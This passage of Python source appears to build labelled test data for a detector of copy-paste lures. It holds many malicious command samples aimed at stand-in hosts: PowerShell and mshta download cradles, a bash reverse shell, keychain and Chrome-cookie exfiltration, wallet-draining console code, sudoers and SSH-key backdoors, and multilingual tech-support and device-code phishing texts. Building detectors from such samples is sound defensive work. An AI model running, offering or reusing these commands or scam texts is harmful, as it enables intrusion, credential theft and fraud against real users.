    ("ioc-mshta-ip", "mshta http://203.0.113.239/pagee"),
    ("ioc-mshta-path-query", "mshta https://cdn.panel-ioc.invalid/index.php?id=a21c"),
    ("ioc-msiexec-ip", "msiexec /i http://192.0.2.19/s.msi /qn"),
    ("ioc-cmd-curl-pipe-ps", "cmd /c curl -s https://ctl.ioc-curl.test/p | powershell"),
    ("ioc-ps-enc", f"powershell -e {b64_utf16('iex(irm https://enc.ioc-b64.invalid/r)')}"),
    (
        "ioc-ps-enc-webclient",
        "powershell -nop -w hidden -enc "
        + b64_utf16('IEX (New-Object Net.WebClient).DownloadString("http://198.51.100.240/a")'),
    ),
    ("ioc-rundll32-webdav", "rundll32 \\\\ioc-dav.filehost.test@SSL\\DavWWWRoot\\g.dll,Entry"),
    ("ioc-finger", "cmd /c finger 9qr@203.0.113.201 | cmd"),
    (
        "ioc-ps-js-php-device",
        "powershell -w h -c \"iex(iwr -useb 'https://kt.panel-gate.test/js.php?device=windows&ip=1')\"",
    ),
    (
        "ioc-ps-temp-zip-netsupport",
        'powershell -w h -c "$z=\\"$env:APPDATA\\x.zip\\";iwr https://ns.client-pack.invalid/p.zip -OutFile $z;Expand-Archive $z $env:APPDATA\\x;start $env:APPDATA\\x\\client32.exe"',
    ),
    (
        "ioc-cmd-start-min-ps",
        'cmd.exe /c start /min powershell.exe -ep bypass -w hidden -c "iwr https://lm.min-start.test/l.ps1 | iex"',
    ),
    (
        "ioc-ps-downloadfile-start",
        'powershell (New-Object Net.WebClient).DownloadFile(\'https://df.ioc-file.test/upd.exe\',"$env:TEMP\\upd.exe");Start-Process "$env:TEMP\\upd.exe"',
    ),
    ("ioc-ps-mshta-nested", 'powershell -w h -c "mshta https://nest.ioc-hta.invalid/h"'),
    ("ioc-regsvr32-url", "regsvr32 /s /u /i:http://198.51.100.45/x.sct scrobj.dll"),
    (
        "ioc-cmd-bitsadmin",
        "bitsadmin /transfer x http://203.0.113.29/r.exe C:\\Users\\Public\\r.exe & C:\\Users\\Public\\r.exe",
    ),
    ("ioc-ps-alias-hidden", 'powershell -W H -C "sal x iex; x(irm https://al.alias-set.test/k)"'),
    (
        "ioc-ps-httpclient",
        "powershell -w h -c \"$h=[System.Net.Http.HttpClient]::new();iex $h.GetStringAsync('https://hc.httpclient-get.invalid/s').Result\"",
    ),
    (
        "ioc-ps-winhttp-com",
        "powershell -w h -c \"$r=New-Object -Com WinHttp.WinHttpRequest.5.1;$r.Open('GET','https://wh.com-fetch.test/s',0);$r.Send();iex $r.ResponseText\"",
    ),
    (
        "ioc-cmd-wininstaller-com",
        "powershell -w h -c \"$i=New-Object -ComObject WindowsInstaller.Installer;$i.UILevel=2;$i.InstallProduct('https://wi.msi-com.invalid/a.msi','')\"",
    ),
    ("ioc-curl-bash-mac", "curl -fsSL http://198.51.100.222/install.sh | bash"),
    (
        "ioc-osascript-b64-mac",
        f"echo {b64('curl -s https://mc.osa-drop.test/a | osascript')} | base64 -d | bash",
    ),
    ("ioc-bash-c-curl-mac", '/bin/bash -c "$(curl -fsSL https://mac.ioc-cradle.invalid/i.sh)"'),
    ("ioc-wget-sh-linux", "wget -qO- http://203.0.113.166/x.sh | sh"),
]:
    platform = (
        "macos"
        if technique.endswith("-mac")
        else "linux"
        if technique.endswith("-linux")
        else "windows"
    )
    target = TERM if platform != "windows" else RUN
    ioc(technique, text, target, platform)

# --- macOS Terminal: "paste in Terminal" stealer pages ---------------------------------------------


def mac(technique: str, source: str, text: str, expect: str = "malicious") -> None:
    lure(technique, TERM, source, text, expect, "macos")


for technique, source, text in [
    (
        "mac-curl-bash-captcha",
        "https://www.pebble-beach-surf.example/",
        "curl -fsSL https://mac.humanity-proof.test/v.sh | bash  # Verify you are human (macOS)",
    ),
    (
        "mac-bash-c-curl-install",
        "https://get-arcbrowser.app-downloads.example/mac",
        '/bin/bash -c "$(curl -fsSL https://arc.mac-installer.invalid/install.sh)"',
    ),
    (
        "mac-zsh-c-curl",
        "https://www.loft-coworking.example/",
        'zsh -c "$(curl -s http://198.51.100.233/m)"  # Finish verification in Terminal',
    ),
    (
        "mac-curl-sh-ip",
        "https://pages.mac-cleaner-pro.example/",
        "curl -s http://203.0.113.97/cleaner.sh | sh",
    ),
    (
        "mac-echo-b64-bash",
        "https://www.sequoia-yoga-retreat.example/",
        f"echo '{b64('curl -fsSL https://b.mac-b64.test/p|bash')}' | base64 --decode | bash",
    ),
    (
        "mac-echo-b64-zsh-D",
        "https://homebrew-install.pkg-setup.example/",
        f'/bin/zsh -c "$(echo {b64("curl -s https://brw.formula-mirror.invalid/i | zsh")} | base64 -D)"',
    ),
    (
        "mac-gzip-b64",
        "https://www.driftwood-art-studio.example/",
        f"echo {gzip_b64('curl -sL https://gz.mac-stage.test/s|bash')} | base64 -d | gunzip | bash",
    ),
    (
        "mac-osascript-curl",
        "https://www.nautilus-aquarium.example/",
        'osascript -e "do shell script \\"curl -s https://osa.mac-shell.test/a | bash\\""',
    ),
    (
        "mac-osascript-admin-prompt",
        "https://update.macos-security-center.example/",
        'osascript -e \'display dialog "macOS needs your password to continue the update." default answer "" with hidden answer with title "System Preferences"\' -e \'do shell script "curl -s -X POST -d pw=" & text returned of result & " https://pw.pass-grab.invalid/c"\'',
    ),
    (
        "mac-curl-osascript-pipe",
        "https://www.mistral-sailing.example/",
        "curl -s https://as.applescript-drop.test/p.scpt | osascript",
    ),
    (
        "mac-xattr-quarantine-run",
        "https://download.loom-desktop.app-mirror.example/",
        "cd ~/Downloads && curl -sLO https://dmg.loom-mirror.test/Loom.dmg && hdiutil attach Loom.dmg && xattr -cr /Volumes/Loom/Loom.app && open /Volumes/Loom/Loom.app",
    ),
    (
        "mac-xattr-d-quarantine",
        "https://cracked-apps.macwarez-hub.example/final-cut",
        "curl -sL https://fc.pro-unlock.invalid/fcp.zip -o /tmp/f.zip && unzip -q /tmp/f.zip -d /tmp/f && xattr -d com.apple.quarantine /tmp/f/Install && /tmp/f/Install",
    ),
    (
        "mac-sudo-curl-bash",
        "https://www.hudson-valley-farm.example/",
        'sudo bash -c "$(curl -s https://sd.sudo-mac.test/i)"  # enter your Mac password to verify',
    ),
    (
        "mac-tmp-binary-chmod",
        "https://discord-nitro-gift.claim-mac.example/",
        "curl -so /tmp/.d https://bin.nitro-claim.invalid/d && chmod +x /tmp/.d && /tmp/.d",
    ),
    (
        "mac-nohup-background",
        "https://www.keystone-orthodontics.example/",
        'nohup bash -c "$(curl -fsSL http://198.51.100.204/n)" >/dev/null 2>&1 &',
    ),
    (
        "mac-dscl-password-check",
        "https://icloud-verify.appleid-secure.example/",
        'read -s -p \'Password: \' p; dscl . -authonly "$USER" "$p" && curl -s -d "u=$USER&p=$p" https://ic.pass-harvest.test/k',
    ),
    (
        "mac-keychain-dump-exfil",
        "https://www.rosewood-violin.example/",
        "security dump-keychain -d ~/Library/Keychains/login.keychain-db > /tmp/k.txt; curl -F f=@/tmp/k.txt https://kc.keychain-up.invalid/u",
    ),
    (
        "mac-launchagent-plist",
        "https://zoom-update.meetings-mac.example/",
        "curl -s https://la.agent-drop.test/com.apple.update.plist -o ~/Library/LaunchAgents/com.apple.update.plist && launchctl load ~/Library/LaunchAgents/com.apple.update.plist",
    ),
    (
        "mac-fake-ledger-live",
        "https://ledger-live-update.wallet-support.example/",
        "curl -fsSL https://ll.ledger-fix.invalid/live.sh | bash  # Ledger Live: firmware sync error 0x6b0c",
    ),
    (
        "mac-fake-homebrew-typo",
        "https://brew-sh.pkg-get.example/",
        '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent-cdn.test/Homebrew/install/HEAD/install.sh)"',
    ),
    (
        "mac-fake-chatgpt-desktop",
        "https://chatgpt-desktop.ai-apps-download.example/mac",
        "curl -sL https://cg.gpt-mac.test/setup | bash",
    ),
    (
        "mac-fake-notion-calendar",
        "https://notion-cal.mac-apps-hub.example/",
        "bash <(curl -s https://nc.calendar-dl.invalid/i.sh)",
    ),
    (
        "mac-python-exec-url",
        "https://www.cliffside-inn.example/",
        "python3 -c \"import urllib.request as u;exec(u.urlopen('https://py.mac-exec.test/x').read())\"",
    ),
    (
        "mac-printf-hex-bash",
        "https://www.aurora-glassworks.example/",
        "bash -c \"$(printf '"
        + "".join(f"\\x{b:02x}" for b in b"curl -s https://hx.printf-mac.test/i|sh")
        + "')\"",
    ),
    (
        "mac-curl-output-open-app",
        "https://figma-agent.design-plugins.example/",
        "curl -sL https://fa.agent-zip.invalid/FigmaAgent.zip -o /tmp/fa.zip && ditto -xk /tmp/fa.zip /Applications && open /Applications/FigmaAgent.app",
    ),
    (
        "mac-meeting-fix-terminal",
        "https://meet.webinar-joinnow.example/r/5521",
        "curl -fsSL https://mt.audio-fix-mac.test/fix | zsh  # Microphone not detected: run to reset Core Audio",
    ),
    (
        "mac-osascript-jxa-fetch",
        "https://www.tamarack-ski-lodge.example/",
        'osascript -l JavaScript -e \'ObjC.import("Foundation");var d=$.NSData.dataWithContentsOfURL($.NSURL.URLWithString("https://jx.jxa-load.invalid/s"));eval($.NSString.alloc.initWithDataEncoding(d,4).js)\'',
    ),
    (
        "mac-chrome-profile-exfil",
        "https://www.wavecrest-realty.example/",
        "cd ~/Library/Application\\ Support/Google/Chrome/Default && zip -qr /tmp/c.zip 'Login Data' Cookies && curl -F z=@/tmp/c.zip http://203.0.113.111/u",
    ),
    (
        "mac-curl-cd-tmp-run",
        "https://www.bayberry-candle-co.example/",
        "cd /tmp && curl -O https://tmp.mac-run.test/update && chmod 755 update && ./update  "
        + TAILS[14],
    ),
    (
        "mac-spotlight-instruction",
        "https://www.larchmont-pilates.example/",
        "Press ⌘ + Space, type Terminal, press Return, then paste:\ncurl -s https://sp.cmd-space.invalid/v | bash\nand press Return to finish verification.",
    ),
]:
    mac(technique, source, text)

# --- Linux terminal --------------------------------------------------------------------------------


def nix(technique: str, source: str, text: str, expect: str = "malicious") -> None:
    lure(technique, TERM, source, text, expect, "linux")


for technique, source, text, *rest in [
    (
        "linux-curl-sudo-bash-driver",
        "https://nvidia-driver-fix.gpu-support.example/linux",
        "curl -s https://gpu.driver-patch.test/nv.sh | sudo bash",
    ),
    (
        "linux-wget-sh-captcha",
        "https://www.moosehead-outfitters.example/",
        "wget -qO- http://198.51.100.133/v | sh  " + TAILS[0],
    ),
    (
        "linux-bash-process-subst",
        "https://steam-proton-fix.gamers-help.example/",
        "bash <(curl -sL https://pr.proton-patch.invalid/f.sh)",
    ),
    (
        "linux-b64-bash",
        "https://www.quarry-climbing-gym.example/",
        f"echo {b64('wget -q -O- https://lx.b64-lin.test/s|bash')} | base64 -d | bash",
    ),
    (
        "linux-tmp-hidden-binary",
        "https://discord-linux.voice-fix.example/",
        "curl -so /tmp/.xd https://bin.voice-fix.test/x && chmod +x /tmp/.xd && nohup /tmp/.xd >/dev/null 2>&1 &",
    ),
    (
        "linux-crontab-beacon",
        "https://www.canyon-ridge-winery.example/",
        "(crontab -l 2>/dev/null; echo '*/10 * * * * curl -s https://cr.cron-beacon.invalid/b|sh') | crontab -",
    ),
    (
        "linux-bashrc-append",
        "https://www.alderwood-acupuncture.example/",
        "echo 'curl -s https://rc.bashrc-hook.test/h | bash >/dev/null 2>&1' >> ~/.bashrc && source ~/.bashrc",
    ),
    (
        "linux-dev-tcp-shell",
        "https://ctf-warmup.hackme-lab.example/task3",
        "bash -i >& /dev/tcp/203.0.113.159/4444 0>&1",
    ),
    (
        "linux-python-exec-url",
        "https://www.lighthouse-tavern.example/",
        "python3 -c \"import urllib.request;exec(urllib.request.urlopen('http://192.0.2.88/p').read())\"",
    ),
    (
        "linux-sudo-tee-sudoers",
        "https://docker-fix.container-help.example/",
        'echo "$USER ALL=(ALL) NOPASSWD:ALL" | sudo tee /etc/sudoers.d/99-fix && curl -s https://dk.sudo-drop.invalid/d | bash',
    ),
    (
        "linux-systemd-user-unit",
        "https://www.ironwood-fitness.example/",
        "mkdir -p ~/.config/systemd/user && curl -so ~/.config/systemd/user/sync.service https://sd.unit-drop.test/sync.service && systemctl --user enable --now sync.service",
    ),
    (
        "linux-wget-output-run",
        "https://www.birchbark-canoe.example/",
        "wget -q https://wg.linux-stage.invalid/upd -O /dev/shm/upd; chmod +x /dev/shm/upd; /dev/shm/upd",
    ),
    (
        "linux-ssh-key-plant",
        "https://devops-interview.take-home-task.example/",
        "mkdir -p ~/.ssh && curl -s https://ky.keyplant.test/k.pub >> ~/.ssh/authorized_keys",
    ),
    (
        "linux-fake-interview-npm",
        "https://hire.web3-devjobs.example/assignment/7",
        "git clone https://git.assignment-repo.invalid/dex-frontend && cd dex-frontend && npm install && npm run dev",
        "flagged",
    ),
    (
        "linux-curl-pipe-python",
        "https://www.fernhill-bee-farm.example/",
        "curl -s https://py.pipe-lin.test/i.py | python3 -",
    ),
    (
        "linux-ld-preload-profile",
        "https://www.ridgeline-taxidermy.example/",
        "curl -so /tmp/libx.so https://so.preload-drop.invalid/l.so && echo 'export LD_PRELOAD=/tmp/libx.so' >> ~/.profile",
    ),
]:
    nix(technique, source, text, *rest)

# --- Browser console (F12): self-XSS, token theft, drainers ---------------------------------------


def con(technique: str, source: str, text: str, expect: str = "malicious") -> None:
    lure(technique, CON, source, text, expect, "any")


for technique, source, text in [
    (
        "console-fetch-eval",
        "https://www.giftcard-balance-check.example/",
        "fetch('https://js.console-run.test/p.js').then(r=>r.text()).then(eval)",
    ),
    (
        "console-script-src",
        "https://free-robux.rewards-hub.example/",
        "var s=document.createElement('script');s.src='https://cdn.reward-js.invalid/r.js';document.body.appendChild(s)",
    ),
    (
        "console-jquery-getscript",
        "https://www.pinecrest-community.example/",
        "$.getScript('https://gs.jq-load.test/x.js')",
    ),
    (
        "console-eval-atob",
        "https://instagram-verify.badge-request.example/",
        f"eval(atob('{b64('fetch(`https://ig.badge-grab.invalid/c?d=`+document.cookie)')}'))",
    ),
    (
        "console-cookie-beacon",
        "https://www.harborfest-tickets.example/",
        "navigator.sendBeacon('https://bc.cookie-send.test/c', document.cookie)",
    ),
    (
        "console-localstorage-token",
        "https://discord-boost.nitro-free.example/",
        "fetch('https://tk.token-post.invalid/t',{method:'POST',body:JSON.stringify(localStorage)})",
    ),
    (
        "console-fromcharcode-eval",
        "https://www.seasalt-bakery.example/",
        f"eval(String.fromCharCode({char_codes('fetch(`https://cc.charcode-js.test/a`).then(r=>r.text()).then(eval)')}))",
    ),
    (
        "console-function-constructor",
        "https://giveaway.streamer-drops.example/",
        "new Function(await (await fetch('https://fn.ctor-load.invalid/f')).text())()",
    ),
    (
        "console-import-module",
        "https://www.coral-reef-divers.example/",
        "import('https://im.dyn-import.test/m.js')",
    ),
    (
        "console-bracket-eval",
        "https://tiktok-coins.free-gift.example/",
        "window['ev'+'al'](await (await fetch('https://br.bracket-js.invalid/z')).text())",
    ),
    (
        "console-wallet-send-tx",
        "https://airdrop-claim.token-drop.example/",
        "ethereum.request({method:'eth_sendTransaction',params:[{from:ethereum.selectedAddress,to:'0x000000000000000000000000000000000000dEaD',value:'0x8AC7230489E80000'}]})",
    ),
    (
        "console-wallet-approve-all",
        "https://nft-mint.free-collection.example/",
        "ethereum.request({method:'eth_sendTransaction',params:[{from:ethereum.selectedAddress,to:'0x1111111111111111111111111111111111111111',data:'0xa22cb4650000000000000000000000002222222222222222222222222222222222222222'+'0'.repeat(63)+'1'}]})",
    ),
    (
        "console-xhr-eval",
        "https://www.prairie-dog-ranch.example/",
        "var x=new XMLHttpRequest();x.open('GET','https://xh.xhr-js.test/s',false);x.send();eval(x.responseText)",
    ),
    (
        "console-settimeout-string",
        "https://facebook-recovery.account-help.example/",
        "setTimeout(\"fetch('https://st.timeout-js.invalid/x').then(r=>r.text()).then(eval)\",100)",
    ),
]:
    con(technique, source, text)

# --- Tech-support and callback scam texts (not commands) -------------------------------------------

SCAM = "support-scam"
for technique, source, text in [
    (
        f"{SCAM}-en",
        "https://alert.windows-defender-warning.example/",
        "WINDOWS DEFENDER SECURITY ALERT\nTrojan:Win32/Wacatac.B!ml was found on this computer. Your banking passwords and photos are at risk.\nDo not restart or close this window. Call Microsoft Certified Support now: +1 (888) 555-0172 (toll free)",
    ),
    (
        f"{SCAM}-en-apple",
        "https://support.apple-icloud-locked.example/",
        "Your iPhone has been locked because of suspicious activity on your Apple ID.\nTo unlock it, contact Apple Support immediately at 1-844-555-0109. Do not try to reset the device, your data will be erased.",
    ),
    (
        f"{SCAM}-de",
        "https://warnung.pc-geschuetzt.example/",
        "Ihr Computer wurde aufgrund einer Virusinfektion gesperrt (Fehlercode #DW6VB36).\nRufen Sie sofort den Microsoft-Support an: 0800 555 0193. Schalten Sie den PC nicht aus.",
    ),
    (
        f"{SCAM}-fr",
        "https://alerte.securite-pc-fr.example/",
        "Votre ordinateur est bloqué pour des raisons de sécurité. Des logiciels espions ont été détectés.\nAppelez le support technique Windows au 09 75 555 142 (appel gratuit) avant de fermer cette page.",
    ),
    (
        f"{SCAM}-es",
        "https://aviso.soporte-equipo.example/",
        "¡ALERTA! Su equipo ha sido bloqueado. Se detectó actividad sospechosa de hackers.\nLlame al soporte técnico de Microsoft al +34 900 555 218 para desbloquearlo. No apague el equipo.",
    ),
    (
        f"{SCAM}-it",
        "https://avviso.protezione-pc.example/",
        "Il tuo computer è stato bloccato per motivi di sicurezza. Chiama subito l'assistenza Microsoft al numero 800 555 714 per evitare la perdita dei tuoi dati.",
    ),
    (
        f"{SCAM}-pt",
        "https://alerta.seguranca-windows.example/",
        "Seu computador foi bloqueado devido a atividade suspeita. Ligue imediatamente para o suporte da Microsoft: 0800 555 0361. Não reinicie o computador.",
    ),
    (
        f"{SCAM}-nl",
        "https://waarschuwing.pc-beveiliging.example/",
        "Uw computer is geblokkeerd vanwege een virusinfectie. Bel direct Microsoft Support op 0800 555 0128. Sluit deze pagina niet af, anders worden uw gegevens verwijderd.",
    ),
    (
        f"{SCAM}-pl",
        "https://ostrzezenie.komputer-blokada.example/",
        "Twój komputer został zablokowany z powodu wykrycia wirusa. Zadzwoń natychmiast do pomocy technicznej Microsoft: 800 555 274. Nie wyłączaj komputera.",
    ),
    (
        f"{SCAM}-tr",
        "https://uyari.bilgisayar-kilit.example/",
        "Bilgisayarınız güvenlik nedeniyle kilitlendi. Virüs tespit edildi. Hemen Microsoft Destek hattını arayın: 0850 555 31 72. Bilgisayarı kapatmayın.",
    ),
    (
        f"{SCAM}-ru",
        "https://vnimanie.zashchita-pc.example/",
        "Ваш компьютер заблокирован из-за обнаруженного вируса. Немедленно позвоните в службу поддержки Microsoft: 8 800 555-31-27. Не выключайте компьютер.",
    ),
    (
        f"{SCAM}-ja",
        "https://keikoku.pc-hogo.example/",
        "お使いのコンピューターはウイルス感染のためロックされました。ただちにマイクロソフト サポート 0120-555-384 までお電話ください。電源を切らないでください。",
    ),
    (
        f"{SCAM}-zh",
        "https://jinggao.diannao-anquan.example/",
        "您的电脑因检测到病毒已被锁定。请立即拨打微软技术支持电话 400-555-0186 解锁。请勿关闭或重启电脑。",
    ),
    (
        f"{SCAM}-ar",
        "https://tahdhir.hemaya-pc.example/",
        "تم قفل جهاز الكمبيوتر الخاص بك بسبب اكتشاف فيروس. اتصل فوراً بدعم مايكروسوفت على الرقم 800 555 0147. لا تقم بإيقاف تشغيل الجهاز.",
    ),
    (
        "callback-geek-squad-en",
        "https://mail.inbox-viewer.example/m/2231",
        "Geek Squad Total Protection - Invoice GSQ-88120\nYour subscription was renewed for $399.99 and will be charged today.\nIf you did not authorize this renewal, call our billing desk within 24 hours: +1 (808) 555-0164.",
    ),
    (
        "callback-paypal-en",
        "https://mail.webmail-reader.example/msg/77",
        "PayPal: a payment of $749.00 to Coinbase Global was approved on your account.\nNot you? Call PayPal Resolution Center at 1-855-555-0139 to cancel the transaction.",
    ),
    (
        "callback-amazon-de",
        "https://postfach.mail-anzeige.example/n/5",
        "Amazon: Ihre Bestellung #302-5591 (iPhone 16 Pro, 1.299,00 €) wurde bestätigt.\nSie haben diese Bestellung nicht aufgegeben? Rufen Sie sofort unseren Kundenservice an: 0800 555 7731.",
    ),
    (
        "callback-norton-fr",
        "https://courrier.lecteur-mail.example/l/9",
        "Norton 360 : votre abonnement a été renouvelé automatiquement pour 349,99 €.\nPour annuler et être remboursé, appelez le 01 555 502 18 sous 24 heures.",
    ),
    (
        "callback-microsoft-es",
        "https://correo.visor-web.example/m/4",
        "Microsoft: se ha cargado 289,99 € por la renovación de Office 365 Premium.\nSi no reconoce este cargo, llame al +34 911 555 402 para solicitar el reembolso.",
    ),
    (
        "callback-bank-it",
        "https://posta.lettore-messaggi.example/x/2",
        "Intesa: è stato disposto un bonifico di 2.480,00 € dal suo conto. Se non è stato lei, chiami subito il servizio antifrode al 02 555 0199 per bloccarlo.",
    ),
    (
        "callback-coinbase-en",
        "https://mail.readmail-app.example/t/88",
        "Coinbase Security: a withdrawal of 0.84 BTC to an unrecognised wallet is pending.\nIf this wasn't you, call Coinbase Support at +1 (415) 555-0123 immediately to freeze your account.",
    ),
    (
        "callback-bank-de-sms",
        "https://sms-archiv.nachrichten-viewer.example/",
        "Sparkasse: Ihre Karte wurde aus Sicherheitsgründen gesperrt. Zur Entsperrung rufen Sie bitte 069 555 0182 an.",
    ),
]:
    lure(technique, UNK, source, text, "flagged", "any")

# --- ConsentFix and device codes: sign-in artefacts pasted back to the attacker ---------------------

for technique, source, text in [
    (
        "consentfix-azure-cli-localhost",
        "https://sso-check.tenant-verify.example/step2",
        "http://localhost:8400/?code=1.AVEAx9kz7c5V2kqLQmUo4rLh8xWg9N2Tq0-9vQ0Z7oRJ2gBJAA.AgABBAIAAAD--DLA3VO7QrddgJg7WevrAgDs_wUA9P-Ncy8&state=f1c9Qp&session_state=0025c2e1-5c7a-4a7b-9a8e-66a1d0a77b11",
    ),
    (
        "consentfix-127-redirect",
        "https://verify-access.m365-review.example/",
        "Paste the address from your browser bar here to finish:\nhttp://127.0.0.1:53122/?code=0.AXoA8Xq2b4tq3Uy9vCj1oP4rQ&client_info=eyJ1aWQiOiJ4In0&state=8821",
    ),
    (
        "consentfix-google-loopback",
        "https://docs-access.workspace-verify.example/",
        "http://127.0.0.1:8085/?state=Kq2Yt&code=4/0AanRRrtY8b2xW9pQ4kLz7mN1vC3dF6hJ0sT5uE&scope=https://www.googleapis.com/auth/drive",
    ),
    (
        "consentfix-fr-instructions",
        "https://acces-document.partage-securise.example/",
        "Copiez l'adresse complète de la page « localhost » qui s'affiche et collez-la dans ce champ :\nhttp://localhost:37019/?code=0.ARAAb9c7Vx2&state=44f1",
    ),
    (
        "device-code-teams-en",
        "https://teams-guest.meeting-access.example/",
        "To join the meeting as a guest, go to https://microsoft.com/devicelogin and enter the code GH7K-2QXM. The meeting starts once you sign in.",
    ),
    (
        "device-code-de-chat",
        "https://chat.secure-msg-room.example/r/4",
        "Hallo, für den Zugriff auf die geteilten Dateien öffne bitte https://microsoft.com/devicelogin und gib den Code F8PRQ2LXN ein. Danach bin ich sofort im Call.",
    ),
    (
        "device-code-es-signal",
        "https://mensajes.enlace-seguro.example/",
        "Para validar tu cuenta corporativa entra en https://microsoft.com/devicelogin e introduce el código LK9Q-7WZD antes de 15 minutos.",
    ),
    (
        "device-code-github",
        "https://repo-invite.collab-request.example/",
        "To accept the repository invitation, open https://github.com/login/device and enter code 7C3A-91FE.",
    ),
]:
    lure(technique, UNK, source, text, "flagged", "any")

# --- Instructions with the command, as the fake pages word them -----------------------------------

for technique, target, source, text in [
    (
        "instructions-en-winr",
        RUN,
        "https://www.thornbury-cricket.example/",
        'Verification steps:\n1. Press Windows + R\n2. Press CTRL + V\n3. Press Enter\n\npowershell -w h -c "irm https://st.three-steps.test/v|iex"',
    ),
    (
        "instructions-de-winr",
        RUN,
        "https://www.weingut-rebenhof.example/",
        "So bestätigen Sie, dass Sie ein Mensch sind:\n1. Drücken Sie Windows + R\n2. Fügen Sie mit Strg + V ein\n3. Drücken Sie die Eingabetaste\nmshta https://de.schritte-pruefung.invalid/h",
    ),
    (
        "instructions-es-winx",
        TERM,
        "https://www.hacienda-los-olivos.example/",
        "Para corregir el error: pulse Windows + X, elija «Terminal» y pegue:\nirm https://es.terminal-paso.test/c | iex",
    ),
    (
        "instructions-fr-explorer",
        EXP,
        "https://partage.documents-rh.example/",
        f'Pour ouvrir le fichier : appuyez sur Ctrl + L dans l\'Explorateur puis collez ce chemin.\npowershell -w h -c "irm https://fr.chemin-fichier.invalid/d|iex" #{NBSP * 40}C:\\RH\\Contrat.pdf',
    ),
    (
        "instructions-pt-winr",
        RUN,
        "https://www.quinta-do-vale.example/",
        "Verificação: pressione Windows + R, cole com Ctrl + V e pressione Enter.\ncmd /c curl -s https://pt.passos-verif.test/p.bat -o %tmp%\\p.bat & %tmp%\\p.bat",
    ),
    (
        "instructions-it-console",
        CON,
        "https://www.agriturismo-colle.example/",
        "Per sbloccare il premio apri la console (F12), scrivi «allow pasting» e incolla:\nfetch('https://it.console-premio.invalid/s').then(r=>r.text()).then(eval)",
    ),
]:
    lure(technique, target, source, text, "malicious", "any" if target == CON else "windows")

# --- A lure that is only an address behind a verification tail -------------------------------------

for technique, target, source, text in [
    (
        "url-hta-verify-tail",
        RUN,
        "https://www.dogwood-dental.example/",
        "https://cf.humanness-gate.test/verify.hta  # I am not a robot - reCAPTCHA ID 22819",
    ),
    (
        "url-bat-verify-tail",
        RUN,
        "https://www.sundance-saddlery.example/",
        "http://198.51.100.178/check.bat " + " " * 40 + TAILS[0],
    ),
    (
        "url-unc-verify-tail",
        RUN,
        "https://www.wolfcreek-kennels.example/",
        "\\\\203.0.113.63\\verify\\ok.exe  " + TAILS[14],
    ),
    (
        "url-ps1-verify-tail",
        RUN,
        "https://www.elderberry-preserves.example/",
        "https://ps.verify-link.invalid/human.ps1  ✔ Confirm you are human - press Enter",
    ),
]:
    lure(technique, target, source, text)

# ----------------------------------------------------------------------------------------------
# Benign texts: (kind, target, source, text)
# ----------------------------------------------------------------------------------------------

BENIGN: list[tuple[str, str, str | None, str]] = []
OWN = "installer-own-page"


def ok(kind: str, target: str, source: str | None, text: str) -> None:
    BENIGN.append((kind, target, source, text))


# --- Installers of real projects not used by the earlier sets, each from its own page ------------
# The command as the project publishes it (README, install page or release page), with that page.

OWN_PAGES = [
    # web3 and blockchain toolchains
    (
        "https://internetcomputer.org/docs/building-apps/getting-started/install",
        'sh -ci "$(curl -fsSL https://internetcomputer.org/install.sh)"',
    ),
    ("https://github.com/wasp-lang/wasp", "curl -sSL https://get.wasp.sh/installer.sh | sh"),
    (
        "https://wasp.sh/docs/quick-start",
        "curl -sSL https://get.wasp.sh/installer.sh | sh -s -- -v 0.16.0",
    ),
    (
        "https://hasura.io/docs/2.0/hasura-cli/install-hasura-cli/",
        "curl -L https://github.com/hasura/graphql-engine/raw/stable/cli/get.sh | bash",
    ),
    ("https://atlasgo.io/getting-started", "curl -sSf https://atlasgo.sh | sh"),
    ("https://depot.dev/docs/cli/installation", "curl -L https://depot.dev/install-cli.sh | sh"),
    ("https://func-e.io/", "curl https://func-e.io/install.sh | bash -s -- -b /usr/local/bin"),
    ("https://www.civo.com/docs/overview/civo-cli", "curl -sL https://civo.com/get | sh"),
    (
        "https://docs.amplify.aws/gen1/javascript/tools/cli/start/set-up-cli/",
        "curl -sL https://aws-amplify.github.io/amplify-cli/install | bash && $SHELL",
    ),
    (
        "https://github.com/bigbluebutton/bbb-install",
        "wget -qO- https://raw.githubusercontent.com/bigbluebutton/bbb-install/v3.0.x-release/bbb-install.sh | bash -s -- -w -v jammy-300 -s bbb.example.com -e admin@example.com",
    ),
    (
        "https://github.com/rojo-rbx/rokit",
        "curl -sSf https://raw.githubusercontent.com/rojo-rbx/rokit/main/scripts/install.sh | bash",
    ),
    (
        "https://github.com/rojo-rbx/rokit",
        "Invoke-RestMethod https://raw.githubusercontent.com/rojo-rbx/rokit/main/scripts/install.ps1 | Invoke-Expression",
    ),
    ("https://docs.raspap.com/", "curl -sL https://install.raspap.com | bash"),
    (
        "https://github.com/RaspAP/raspap-webgui",
        "curl -sL https://install.raspap.com | bash -s -- --yes --openvpn 1 --adblock 1",
    ),
    ("https://github.com/LPGhatguy/aftman", "cargo install aftman && aftman self-install"),
    (
        "https://github.com/kurtosis-tech/kurtosis",
        'echo "deb [trusted=yes] https://apt.fury.io/kurtosis-tech/ /" | sudo tee /etc/apt/sources.list.d/kurtosis.list\nsudo apt update\nsudo apt install kurtosis-cli',
    ),
    (
        "https://www.vcluster.com/docs/get-started",
        'curl -L -o vcluster "https://github.com/loft-sh/vcluster/releases/latest/download/vcluster-linux-amd64" && sudo install -c -m 0755 vcluster /usr/local/bin && rm -f vcluster',
    ),
    (
        "https://kubevela.io/docs/installation/kubernetes/",
        "curl -fsSl https://kubevela.io/script/install.sh | bash",
    ),
    (
        "https://kyverno.io/docs/installation/methods/",
        "kubectl create -f https://github.com/kyverno/kyverno/releases/download/v1.13.0/install.yaml",
    ),
    ("https://github.com/stern/stern", "go install github.com/stern/stern@latest"),
    (
        "https://github.com/ahmetb/kubectx",
        "sudo git clone https://github.com/ahmetb/kubectx /opt/kubectx\nsudo ln -s /opt/kubectx/kubectx /usr/local/bin/kubectx\nsudo ln -s /opt/kubectx/kubens /usr/local/bin/kubens",
    ),
    ("https://github.com/derailed/popeye", "brew install derailed/popeye/popeye"),
    (
        "https://github.com/aquasecurity/kube-bench",
        "kubectl apply -f https://raw.githubusercontent.com/aquasecurity/kube-bench/main/job.yaml",
    ),
    (
        "https://github.com/doitintl/kube-no-trouble",
        'sh -c "$(curl -sSL https://git.io/install-kubent)"',
    ),
    ("https://github.com/FairwindsOps/pluto", "brew install FairwindsOps/tap/pluto"),
    (
        "https://github.com/FairwindsOps/polaris",
